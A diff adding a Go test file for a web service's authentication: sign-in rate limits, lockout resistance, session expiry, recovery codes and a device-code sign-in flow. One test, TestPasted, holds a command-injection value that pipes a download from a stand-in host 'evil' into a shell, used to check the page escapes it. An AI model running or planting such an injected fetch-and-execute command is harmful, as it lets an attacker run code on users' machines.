@@ -1,0 +1,536 @@
+package site
+
+import (
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"regexp"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"testing/synctest"
+	"time"
+
+	"github.com/go-json-experiment/json"
+
+	"github.com/kith/kith/internal/account"
+	"github.com/kith/kith/internal/api"
+	"github.com/kith/kith/internal/credential"
+	"github.com/kith/kith/internal/fleet"
+)
+
+// inProcess lets a browser speak to the site without a network, so that it can
+// do so in false time.
+func (tn *town) inProcess(from string) func(path string, fields ...string) seen {
+	return tn.inProcessAs(from, "")
+}
+
+// inProcessAs is inProcess with a cookie.
+func (tn *town) inProcessAs(from, cookie string) func(path string, fields ...string) seen {
+	return func(path string, fields ...string) seen {
+		form := url.Values{}
+		for i := 0; i < len(fields); i += 2 {
+			form.Set(fields[i], fields[i+1])
+		}
+		r := httptest.NewRequest("POST", path, strings.NewReader(form.Encode()))
+		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		r.Header.Set("Cookie", cookie)
+		r.RemoteAddr = from + ":1234"
+		w := httptest.NewRecorder()
+		tn.site.ServeHTTP(w, r)
+		return seen{w.Code, w.Header(), w.Body.String()}
+	}
+}
+
+// TestSignInLimits: guesses are held back by address, and by address and name
+// together, and what is right works again once their time has come.
+func TestSignInLimits(t *testing.T) {
+	tn := newTown(t, nil)
+	tn.as("ada").post("/account/password", "password", aPassword).goes(t, "/account")
+	synctest.Test(t, func(t *testing.T) {
+		tn.site.limits, tn.site.Passwords = newLimits(), api.New(api.Config{}).Passwords // of this bubble
+		one := tn.inProcess("192.0.2.1")
+		for i := range 10 {
+			if got := one("/signin", "name", "ada", "password", "wrong"); got.status != 403 {
+				t.Fatalf("guess %d: %d", i+1, got.status)
+			}
+		}
+		held := one("/signin", "name", "ada", "password", aPassword)
+		if held.status != 429 || held.header.Get("Retry-After") != "30" {
+			t.Errorf("the eleventh: %d, Retry-After %q", held.status, held.header.Get("Retry-After"))
+		}
+		if got := one("/signin", "name", "bob", "password", "wrong"); got.status != 403 {
+			t.Errorf("another name: %d", got.status)
+		}
+		tn.inProcess("192.0.2.2")("/signin", "name", "ada", "password", aPassword).goes(t, "/")
+		time.Sleep(30 * time.Second)
+		one("/signin", "name", "ada", "password", aPassword).goes(t, "/")
+
+		// By address, whatever the name; of IPv6, by the network. Recoveries are
+		// counted apart, in the same way.
+		guess := tn.inProcess("[2001:db8::1]")
+		for i := range 20 {
+			guess("/signin", "name", strings.Repeat("x", i+1), "password", "wrong").want(t, 403)
+		}
+		if got := tn.inProcess("[2001:db8::2]")("/signin", "name", "nobody", "password", "wrong"); got.status != 429 {
+			t.Errorf("from the same network: %d", got.status)
+		}
+		if got := tn.inProcess("[2001:db8:0:1::1]")("/signin", "name", "someone", "password", "wrong"); got.status != 403 {
+			t.Errorf("from another network: %d", got.status)
+		}
+		for i := range 20 {
+			guess("/recover", "name", strings.Repeat("x", i+1), "code", "y", "password", aPassword).want(t, 403)
+		}
+		if got := guess("/recover", "name", "nobody", "code", "y", "password", aPassword); got.status != 429 {
+			t.Errorf("the 21st recovery: %d", got.status)
+		}
+	})
+}
+
+// TestGuessesDoNotLockOut: during guesses at a member's password from elsewhere, the
+// member can sign in with a browser used before, recover the account and type device
+// codes; and sign in with a new browser while the guesses come from few addresses.
+func TestGuessesDoNotLockOut(t *testing.T) {
+	tn := newTown(t, nil)
+	first := tn.as("ada").post("/account/password", "password", aPassword)
+	first.goes(t, "/account")
+	known := setCookie(t, first.header, "kith-browser")
+	codes := strings.Fields(textOf(t, tn.as("ada").post("/account/codes", "old", aPassword).want(t, 200), "codes"))
+	synctest.Test(t, func(t *testing.T) {
+		tn.site.limits, tn.site.Passwords = newLimits(), api.New(api.Config{}).Passwords // of this bubble
+		attacker := tn.inProcess("198.51.100.1")
+		for i := range 10_000 {
+			if got := attacker("/signin", "name", "ada", "password", "guess"); got.status != 403 && got.status != 429 {
+				t.Fatalf("guess %d: %d", i, got.status)
+			}
+			time.Sleep(100 * time.Millisecond)
+		}
+		tn.inProcess("192.0.2.1")("/signin", "name", "ada", "password", aPassword).goes(t, "/") // a browser never seen
+
+		// From everywhere: what guesses the name has is bounded, for new browsers alone.
+		passed := 0
+		for i := range 2000 {
+			if from := tn.inProcess(fmt.Sprintf("203.0.%d.%d", 1+i/200, 1+i%200)); from("/signin", "name", "ada", "password", "guess").status == 403 {
+				passed++
+			}
+		}
+		if passed > 100 {
+			t.Errorf("%d guesses at once for one name", passed)
+		}
+		tn.inProcess("192.0.2.1")("/signin", "name", "ada", "password", aPassword).want(t, 429)
+		signed := tn.inProcessAs("192.0.2.1", known)("/signin", "name", "ada", "password", aPassword)
+		signed.goes(t, "/")
+		tn.inProcessAs("192.0.2.2", known)("/signin", "name", "bob", "password", "wrong").want(t, 403) // as any other
+		if got := tn.inProcessAs("192.0.2.3", strings.Replace(known, ".", "0.", 1))("/signin", "name", "ada", "password", aPassword); got.status != 429 {
+			t.Errorf("with a cookie of one's own making: %d", got.status)
+		}
+		session := setCookie(t, signed.header, "kith")
+		tn.inProcessAs("192.0.2.1", session)("/device", "code", "BCDF-GHJK").want(t, 404)
+		tn.inProcess("192.0.2.1")("/recover", "name", "ada", "code", codes[0], "password", aPassword+"!").goes(t, "/account")
+
+		// Another password, another browser cookie; and a known browser has its own
+		// allowance, not none.
+		tn.inProcessAs("192.0.2.1", known)("/signin", "name", "ada", "password", aPassword+"!").want(t, 429)
+		fresh := setCookie(t, tn.inProcessAs("192.0.2.1", known)("/recover", "name", "ada", "code", codes[1], "password", aPassword).header, "kith-browser")
+		for range 10 {
+			tn.inProcessAs("192.0.2.1", fresh)("/signin", "name", "ada", "password", "wrong").want(t, 403)
+		}
+		tn.inProcessAs("192.0.2.1", fresh)("/signin", "name", "ada", "password", aPassword).want(t, 429)
+		time.Sleep(browserLife)
+		for range 10 {
+			tn.inProcess("192.0.2.1")("/signin", "name", "ada", "password", "guess").want(t, 403)
+		}
+		tn.inProcessAs("192.0.2.1", fresh)("/signin", "name", "ada", "password", aPassword).want(t, 429) // half a year later
+	})
+}
+
+// session is the cookie of a browser's session.
+func (b *browser) session() *http.Cookie {
+	for _, c := range b.client.Jar.Cookies(must1(url.Parse(b.web.URL))) {
+		if c.Name == "kith" {
+			return c
+		}
+	}
+	return new(http.Cookie)
+}
+
+// setCookie is the cookie of that name that an answer sets, as a browser sends it.
+func setCookie(t *testing.T, h http.Header, name string) string {
+	t.Helper()
+	for _, c := range (&http.Response{Header: h}).Cookies() {
+		if c.Name == name {
+			if !c.HttpOnly || c.Name == "kith-browser" && c.SameSite != http.SameSiteStrictMode {
+				t.Errorf("the cookie %s", c)
+			}
+			return c.Name + "=" + c.Value
+		}
+	}
+	t.Fatalf("no cookie %s in %v", name, h["Set-Cookie"])
+	return ""
+}
+
+// TestOneMessage: a wrong name, a wrong password, a member without one and one
+// who is disabled are told the same.
+func TestOneMessage(t *testing.T) {
+	tn := newTown(t, nil)
+	tn.as("ada").post("/account/password", "password", aPassword).goes(t, "/account")
+	tn.as("eve").post("/account/password", "password", aPassword).goes(t, "/account")
+	check(t, tn.db.SetMemberDisabled(t.Context(), tn.members["eve"].ID, true))
+	var first string
+	for _, try := range [][2]string{{"ada", "wrong"}, {"nobody", aPassword}, {"bob", aPassword}, {"eve", aPassword}, {"", ""}, {"a\x00", "x"}, {"ada", strings.Repeat("x", 5000)}, {"Ada", aPassword}} {
+		got := tn.browser().post("/signin", "name", try[0], "password", try[1]).want(t, 403)
+		message := problemIn(got.body)
+		if first == "" {
+			first = message
+		}
+		if message != first || got.header.Get("Set-Cookie") != "" {
+			t.Errorf("%q: %s, cookie %q", try, message, got.header.Get("Set-Cookie"))
+		}
+	}
+}
+
+func TestSignUpRules(t *testing.T) {
+	w := newWorld(t)
+	invite := good[api.Invite](w, "ada", "POST", "/api/invites", `{"uses":1}`).Code
+	closed := townOf(t, w, func(c *Config) { c.SignUp = SignUpClosed })
+	invited := townOf(t, w, func(c *Config) { c.SignUp = "" })
+	open := townOf(t, w, nil)
+	closed.browser().post("/signup", "name", "zoe", "password", aPassword, "invite", invite).want(t, 403, "nobody can sign up")
+	invited.browser().post("/signup", "name", "zoe", "password", aPassword).want(t, 403, "an invite is needed")
+	invited.browser().post("/signup", "name", "zoe", "password", aPassword, "invite", credential.Mint(credential.InviteCode, "home").Reveal()).want(t, 404)
+	invited.browser().post("/signup", "name", "zoe", "password", aPassword, "invite", "x").want(t, 404)
+	for _, bad := range []string{"", "short", "zzzzzzzzzzzzz", strings.Repeat("long", 300), "zoe12345678"[:8]} {
+		invited.browser().post("/signup", "name", "zoe", "password", bad, "invite", invite).want(t, 400)
+	}
+	for _, bad := range []string{"", " ", "a/b", "<b>", strings.Repeat("x", 65)} {
+		invited.browser().post("/signup", "name", bad, "password", aPassword, "invite", invite).want(t, 400)
+	}
+	zoe := invited.browser()
+	zoe.get("/invite/"+invite).want(t, 200, "You are invited")
+	zoe.post("/signup", "name", "zoe", "password", aPassword, "invite", invited.web.URL+"/invite/"+invite).goes(t, "/")
+	zoe.get("/sharing").want(t, 200, "<th scope=\"row\">ada</th>")
+	invited.browser().post("/signup", "name", "yan", "password", aPassword, "invite", invite).want(t, 404)
+	if _, err := w.db.MemberByName(t.Context(), "yan"); err == nil {
+		t.Error("a member is left of a sign-up that failed")
+	}
+	open.browser().post("/signup", "name", "xia", "password", aPassword).goes(t, "/")
+	open.browser().post("/signup", "name", "xia", "password", aPassword).want(t, 400, "somebody is called")
+}
+
+func TestSessionsEnd(t *testing.T) { onEachStore(t, testSessionsEnd) }
+
+func testSessionsEnd(t *testing.T, tn *town) {
+	one := tn.as("ada")
+	one.post("/account/password", "password", aPassword).goes(t, "/account")
+	two, three := tn.browser(), tn.browser()
+	for _, b := range []*browser{two, three} {
+		b.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
+	}
+	page := one.get("/sessions").want(t, 200, "(this one)", "password")
+	ids := regexp.MustCompile(`name="session" value="([^"]+)"`).FindAllStringSubmatch(page.body, -1)
+	if len(ids) != 3 {
+		t.Fatalf("%d sessions", len(ids))
+	}
+	token := two.session().Value
+	if strings.Contains(page.body, token) {
+		t.Error("a session's token is on a page")
+	}
+	one.post("/sessions/end", "session", ids[1][1]).goes(t, "/sessions")
+	two.get("/account").goes(t, "/signin?next=%2Faccount")
+	three.get("/account").want(t, 200)
+	one.post("/sessions/end", "session", ids[1][1]).want(t, 404)
+	one.post("/sessions/end", "all", "yes").goes(t, "/sessions")
+	three.get("/account").goes(t, "/signin?next=%2Faccount")
+
+	// A token taken at one sign-in is nothing after the next, or after sign-out.
+	before := one.session().Value
+	one.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
+	if after := one.session().Value; after == before {
+		t.Error("the token stayed as it was over a sign-in")
+	}
+	one.get("/account").want(t, 200)
+	stale := tn.browser()
+	stale.header.Set("Cookie", "kith="+before)
+	stale.get("/account").goes(t, "/signin?next=%2Faccount")
+	one.post("/signout").goes(t, "/signin")
+	one.get("/account").goes(t, "/signin?next=%2Faccount")
+
+	// A member who is disabled is out at once, and a password change ends the rest.
+	two.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
+	three.post("/signin", "name", "ada", "password", aPassword).goes(t, "/")
+	two.post("/account/password", "old", "wrong", "password", "another good one").want(t, 403, "current password")
+	two.post("/account/password", "old", aPassword, "password", "another good one").goes(t, "/account")
+	two.get("/account").want(t, 200)
+	three.get("/account").goes(t, "/signin?next=%2Faccount")
+	check(t, tn.db.SetMemberDisabled(t.Context(), tn.members["ada"].ID, true))
+	two.get("/account").goes(t, "/signin?next=%2Faccount")
+}
+
+// TestSessionsAge: a session ends 12 hours after it was last seen, and after two
+// weeks in any case.
+func TestSessionsAge(t *testing.T) {
+	tn := newTown(t, nil)
+	link := tn.link(tn.members["ada"].ID)
+	synctest.Test(t, func(t *testing.T) {
+		tn.site.limits = newLimits()
+		get := func(cookie string) int {
+			r := httptest.NewRequest("GET", "/account", nil)
+			r.Header.Set("Cookie", cookie)
+			w := httptest.NewRecorder()
+			tn.site.ServeHTTP(w, r)
+			return w.Code
+		}
+		time.Sleep(time.Until(time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC))) // the link was made in true time
+		check(t, tn.db.CreateLink(t.Context(), account.Link{Hash: must1(credential.Parse(strings.TrimPrefix(link, "/welcome/"))).Hash(), MemberID: tn.members["ada"].ID, Created: time.Now(), Expires: time.Now().Add(time.Hour)}))
+		in := tn.inProcess("192.0.2.1")("/welcome", "link", strings.TrimPrefix(link, "/welcome/"))
+		in.goes(t, "/")
+		cookie := setCookie(t, in.header, "kith")
+		for range 27 {
+			time.Sleep(sessionIdle - time.Second)
+			if got := get(cookie); got != 200 {
+				t.Fatalf("seen in time: %d", got)
+			}
+		}
+		time.Sleep(sessionIdle)
+		if got := get(cookie); got != 303 {
+			t.Errorf("after two weeks: %d", got)
+		}
+	})
+}
+
+func TestRecovery(t *testing.T) { onEachStore(t, testRecovery) }
+
+func testRecovery(t *testing.T, tn *town) {
+	ada := tn.as("ada")
+	ada.post("/account/password", "password", aPassword).goes(t, "/account")
+	ada.post("/account/codes").want(t, 403)
+	page := ada.post("/account/codes", "old", aPassword).want(t, 200, "recovery codes")
+	codes := strings.Fields(textOf(t, page, "codes"))
+	if len(codes) != recoveryCodes {
+		t.Fatalf("made %q", codes)
+	}
+	if again := ada.get("/account").want(t, 200, "You have 8 left"); strings.Contains(again.body, codes[0]) {
+		t.Error("the codes are shown again")
+	}
+	b := tn.browser()
+	b.post("/recover", "name", "bob", "code", codes[0], "password", "a new password").want(t, 403)
+	b.post("/recover", "name", "ada", "code", "aaaa-bbbb-cccc-dddd", "password", "a new password").want(t, 403)
+	b.post("/recover", "name", "ada", "code", strings.ToUpper(codes[0]), "password", "a new password").goes(t, "/account")
+	b.get("/account").want(t, 200, "You have 7 left")
+	ada.get("/account").goes(t, "/signin?next=%2Faccount")
+	tn.browser().post("/recover", "name", "ada", "code", codes[0], "password", "a newer password").want(t, 403)
+	tn.browser().post("/signin", "name", "ada", "password", aPassword).want(t, 403)
+	tn.browser().post("/signin", "name", "ada", "password", "a new password").goes(t, "/")
+}
+
+// device is one that asks for approval.
+type device struct {
+	*town
+	code, user string
+}
+
+func (tn *town) ask4(form ...string) *device {
+	tn.t.Helper()
+	var got struct {
+		DeviceCode string `json:"device_code"`
+		UserCode   string `json:"user_code"`
+		Address    string `json:"verification_uri"`
+		ExpiresIn  int    `json:"expires_in"`
+		Interval   int    `json:"interval"`
+	}
+	answer := tn.browser().post("/device/code", append(form, "client_id", "kith")...).want(tn.t, 200)
+	check(tn.t, json.Unmarshal([]byte(answer.body), &got))
+	if got.ExpiresIn != 600 || got.Interval != 2 || got.Address != tn.web.URL+"/device" {
+		tn.t.Errorf("told %s", answer.body)
+	}
+	return &device{tn, got.DeviceCode, got.UserCode}
+}
+
+// poll asks once, as if its time had come: the error's code, or the answer.
+func (d *device) poll() (string, granted) {
+	d.t.Helper()
+	d.site.limits.polls.give(d.pollKey())
+	answer := d.browser().post("/device/token", "client_id", "kith", "grant_type", grantType, "device_code", d.code)
+	var refused struct {
+		Error string `json:"error"`
+	}
+	var got granted
+	if answer.status == 200 {
+		check(d.t, json.Unmarshal([]byte(answer.body), &got))
+	} else {
+		check(d.t, json.Unmarshal([]byte(answer.body), &refused))
+	}
+	return refused.Error, got
+}
+
+func (d *device) pollKey() string {
+	hash := must1(credential.Parse(d.code)).Hash()
+	return string(hash[:])
+}
+
+func (d *device) want(code string) granted {
+	d.t.Helper()
+	got, answer := d.poll()
+	if got != code {
+		d.t.Fatalf("polled %q, want %q", got, code)
+	}
+	return answer
+}
+
+func TestDeviceSignIn(t *testing.T) { onEachStore(t, testDeviceSignIn) }
+
+func testDeviceSignIn(t *testing.T, tn *town) {
+	ada, bob := tn.as("ada"), tn.as("bob")
+	d := tn.ask4("scope", "machine", "name", "laptop")
+	d.want("authorization_pending")
+	if got := tn.browser().post("/device/token", "grant_type", grantType, "device_code", d.code); !strings.Contains(got.body, "slow_down") {
+		t.Errorf("polled at once: %s", got.body)
+	}
+	// The page says what asks, and decides nothing by itself.
+	ada.post("/device", "code", strings.ToLower(strings.ReplaceAll(d.user, "-", " "))).want(t, 200, "laptop", "127.0.0.1", "Go-http-client", "Type the code once more")
+	d.want("authorization_pending")
+	ada.post("/device/decide", "code", d.user).want(t, 400)
+	ada.post("/device/decide", "decision", "approve").want(t, 404)
+	ada.post("/device/decide", "code", d.user, "decision", "approve").want(t, 200, "Approved")
+	bob.post("/device/decide", "code", d.user, "decision", "approve").want(t, 404)
+
+	// Of many who redeem it at once, one is told the secret.
+	var won atomic.Int64
+	var all sync.WaitGroup
+	for range 8 {
+		all.Go(func() {
+			tn.site.limits.polls.give(d.pollKey())
+			form := url.Values{"grant_type": {grantType}, "device_code": {d.code}}
+			resp, err := http.PostForm(tn.web.URL+"/device/token", form)
+			if err != nil {
+				t.Error(err)
+				return
+			}
+			defer resp.Body.Close()
+			text, _ := io.ReadAll(resp.Body)
+			if resp.StatusCode == 200 && strings.Contains(string(text), `"access_token":"kithm_home_`) && strings.Contains(string(text), `"name":"laptop"`) {
+				won.Add(1)
+			}
+		})
+	}
+	all.Wait()
+	if won.Load() == 0 {
+		d.want("") // every one of them came too soon
+		won.Add(1)
+	}
+	if won.Load() != 1 {
+		t.Errorf("%d were told the secret", won.Load())
+	}
+	d.want("invalid_grant")
+	machines := must1(tn.db.Machines(t.Context(), tn.members["ada"].ID))
+	if len(machines) != 2 || machines[1].Name != "laptop" {
+		t.Errorf("machines are %+v", machines)
+	}
+	// A name that is taken gets a word behind it.
+	again := tn.ask4("scope", "machine", "name", "laptop")
+	ada.post("/device/decide", "code", again.user, "decision", "approve").want(t, 200)
+	if got := again.want(""); !strings.HasPrefix(got.Name, "laptop-") || got.Member != "ada" || !strings.HasPrefix(got.Secret, "kithm_") {
+		t.Errorf("told %+v", got)
+	}
+
+	// Denied.
+	denied := tn.ask4("scope", "machine")
+	bob.post("/device/decide", "code", denied.user, "decision", "deny").want(t, 200, "Denied")
+	denied.want("access_denied")
+	// A key.
+	key := tn.ask4("scope", "key", "name", "editor", "reach", "own")
+	bob.post("/device", "code", key.user).want(t, 200, "an API key called <strong>editor</strong> that reaches my machines")
+	bob.post("/device/decide", "code", key.user, "decision", "approve").want(t, 200, "told there")
+	got := key.want("")
+	stored, member, err := tn.db.KeyByHash(t.Context(), must1(credential.Parse(got.Secret)).Hash())
+	if err != nil || member.Name != "bob" || stored.Reach != account.ReachOwn || stored.Name != "editor" || stored.ID != got.ID {
+		t.Errorf("made %+v of %s, %v", stored, member.Name, err)
+	}
+	// A member who is disabled meanwhile gets nothing.
+	late := tn.ask4("scope", "key", "name", "late")
+	bob.post("/device/decide", "code", late.user, "decision", "approve").want(t, 200)
+	check(t, tn.db.SetMemberDisabled(t.Context(), tn.members["bob"].ID, true))
+	late.want("invalid_grant")
+	// Nonsense.
+	for _, form := range [][]string{{"client_id", "kith", "scope", "all"}, {"scope", "machine"}, {"client_id", "kith", "scope", "key", "name", "<b>"}, {"client_id", "kith", "scope", "key", "name", "x", "reach", "universe"}} {
+		tn.browser().post("/device/code", form...).want(t, 400, `"error":"invalid_`)
+	}
+	tn.browser().post("/device/token", "grant_type", "password").want(t, 400, "unsupported_grant_type")
+	tn.browser().post("/device/token", "grant_type", grantType, "device_code", "x").want(t, 400, "invalid_grant")
+	tn.browser().get("/device/code").want(t, 405)
+}
+
+// TestDeviceGuesses: wrong codes are few, by member and by address, and right ones
+// cost nothing.
+func TestDeviceGuesses(t *testing.T) {
+	tn := newTown(t, nil)
+	ada := tn.as("ada")
+	d := tn.ask4("scope", "machine", "name", "laptop")
+	for range 20 {
+		ada.post("/device", "code", d.user).want(t, 200)
+	}
+	for range 5 {
+		ada.post("/device", "code", credential.UserCode()).want(t, 404)
+	}
+	ada.post("/device", "code", d.user).want(t, 429)
+	ada.post("/device/decide", "code", d.user, "decision", "approve").want(t, 429)
+	tn.as("bob").post("/device", "code", d.user).want(t, 200)
+}
+
+// TestDeviceExpires: after ten minutes nobody approves it, and it says so.
+func TestDeviceExpires(t *testing.T) {
+	tn := newTown(t, nil)
+	code, now := credential.Mint(credential.DeviceCode, "home"), time.Now().UTC()
+	g := account.Grant{ID: "grt_1", Hash: code.Hash(), UserCode: "BCDF-GHJK", Kind: account.GrantMachine, Name: "old", Reach: account.ReachAll, Created: now.Add(-grantLife - time.Second), Expires: now.Add(-time.Second)}
+	check(t, tn.db.CreateGrant(t.Context(), g))
+	tn.as("ada").post("/device", "code", "BCDF-GHJK").want(t, 404)
+	(&device{tn, code.Reveal(), g.UserCode}).want("expired_token")
+}
+
+func TestTestKey(t *testing.T) {
+	tn := newTown(t, nil)
+	ada := tn.as("ada")
+	mine, other := credential.Mint(credential.APIKey, "home"), credential.Mint(credential.APIKey, "home")
+	tn.keys = map[string]string{mine.Reveal(): "ada", other.Reveal(): "bob"}
+	ada.post("/applications/test", "secret", mine.Reveal(), "model", "tiny").want(t, 200, "It works", "tiny answered", "Hello there.")
+	for _, secret := range []string{other.Reveal(), credential.Mint(credential.APIKey, "home").Reveal(), credential.Mint(credential.MachineKey, "home").Reveal(), "x", ""} {
+		got := ada.post("/applications/test", "secret", secret, "model", "tiny").want(t, 400)
+		if secret != "" && secret != "x" && strings.Contains(got.body, secret) {
+			t.Error("the page shows a key that is not ada's")
+		}
+	}
+}
+
+// TestPasted: what stands in lines to paste cannot end a quote in them.
+func TestPasted(t *testing.T) {
+	for id, want := range map[fleet.ModelID]bool{"llama3:8b": true, "org/Model-1.5_q4": true, "": false, "a b": false, "x'; curl evil | sh; '": false, `a"b`: false, "a$(b)": false, "a\\b": false, "é": false} {
+		if pastes(id) != want {
+			t.Errorf("%q may be pasted: %v", id, !want)
+		}
+	}
+	tn := newTown(t, nil)
+	evil := fleet.ModelID("x'; curl evil | sh; '")
+	secret := credential.Mint(credential.APIKey, "home").Reveal()
+	tn.keys = map[string]string{secret: "ada"}
+	page := tn.as("ada").post("/applications/test", "secret", secret, "model", string(evil)).want(t, 200)
+	if lines := page.body[strings.Index(page.body, "Paste into"):]; strings.Contains(lines, "evil") {
+		t.Errorf("the lines to paste hold %s", lines)
+	}
+}
+
+func TestAddressOf(t *testing.T) {
+	for remote, want := range map[string]string{
+		"192.0.2.1:5": "192.0.2.1", "127.0.0.1:5": "127.0.0.1", "[2001:db8::1]:0": "2001:db8::1",
+		"[::ffff:192.0.2.1]:5": "192.0.2.1", "[fe80::1%eth0]:5": "fe80::1", "@": "unknown",
+	} {
+		r := httptest.NewRequest("GET", "/", nil)
+		r.RemoteAddr = remote
+		r.Header.Set("X-Forwarded-For", "198.51.100.1") // the hub alone reads that
+		if got := addressOf(r); got != want {
+			t.Errorf("%s: %s, want %s", remote, got, want)
+		}
+	}
+}
